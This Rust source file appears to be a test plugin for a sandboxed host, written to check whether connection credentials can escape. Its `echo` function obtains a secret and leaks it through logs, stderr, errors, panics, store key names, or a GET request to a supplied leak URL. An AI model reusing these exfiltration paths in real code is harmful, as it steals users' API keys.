//! Credentials: what a piece may see of them, and every way to carry one out.

use serde_json::{Value, json};

use crate::bindings::leno::piece::log::{self, Level};
use crate::bindings::leno::piece::store::{self, Scope};
use crate::bindings::leno::piece::types::ErrorKind;
use crate::bindings::leno::piece::{connection, http};
use crate::{Answer, egress, fail, text};

pub fn settings() -> Answer {
    let settings = connection::settings();
    Ok(json!({ "kind": connection::kind(), "settings": crate::parse(&settings)? }).to_string())
}

#[cfg(feature = "privileged")]
pub fn reveal() -> Answer {
    crate::bindings::leno::piece::secrets::reveal()
}

#[cfg(not(feature = "privileged"))]
pub fn reveal() -> Answer {
    Err(fail(ErrorKind::NotFound, "no-such-action", "this piece does not import leno:piece/secrets"))
}

/// Asks for the connection's value `times` times.
pub fn reveal_often(props: &Value) -> Answer {
    let times = crate::number(props, "times", 1);
    for _ in 0..times {
        reveal()?;
    }
    Ok(json!({ "revealed": times }).to_string())
}

/// Gets hold of a secret and carries it out `through` the way named.
pub fn echo(props: &Value) -> Answer {
    let secret = if cfg!(feature = "privileged") { revealed()? } else { echoed(text(props, "url"))? };
    match text(props, "through") {
        "log" => {
            log::emit(Level::Error, &secret, &[("secret".into(), secret.clone()), (secret.clone(), "name".into())])
        }
        "stderr" => eprintln!("{secret}"),
        "error" => {
            let details = Some(json!({ "secret": secret }).to_string());
            return Err(crate::bindings::leno::piece::types::Error {
                details,
                ..fail(ErrorKind::Internal, &secret, &secret)
            });
        }
        "panic" => panic!("{secret}"),
        "url" => {
            let url = format!("{}?leak={}", text(props, "leak"), hex(&secret));
            let plain = format!("{}?leak={secret}", text(props, "leak"));
            for url in [url, plain] {
                let _ = http::send(&http::Request {
                    method: "GET".into(),
                    url,
                    headers: Vec::new(),
                    body: None,
                    authorize: false,
                    timeout_ms: None,
                    redirects: 0,
                });
            }
        }
        "key" => {
            store::put(Scope::Project, &format!("key-{secret}"), b"", None)?;
        }
        _ => return Ok(json!({ "secret": secret }).to_string()),
    }
    Ok(json!({ "bytes": secret.len() }).to_string())
}

/// The connection's secret, whatever its kind.
fn revealed() -> Answer {
    let value = crate::parse(&reveal()?)?;
    let secret = value["secret_text"].as_str().or(value["props"]["apiKey"].as_str());
    secret.map(str::to_owned).ok_or_else(|| fail(ErrorKind::Internal, "no-secret", "the connection has no secret"))
}

/// What the host added to a request for `url`, whose server responds with the JSON of the headers that it got.
fn echoed(url: &str) -> Answer {
    let response = egress::send(&json!({ "url": url, "authorize": true }))?;
    let echo = crate::parse(&String::from_utf8_lossy(&response.body))?;
    let bearer = echo["headers"]["authorization"].as_str().and_then(|value| value.strip_prefix("Bearer "));
    let secret = bearer.or(echo["headers"]["x-api-key"].as_str());
    secret.map(str::to_owned).ok_or_else(|| fail(ErrorKind::Internal, "no-secret", "the host added no credentials"))
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}
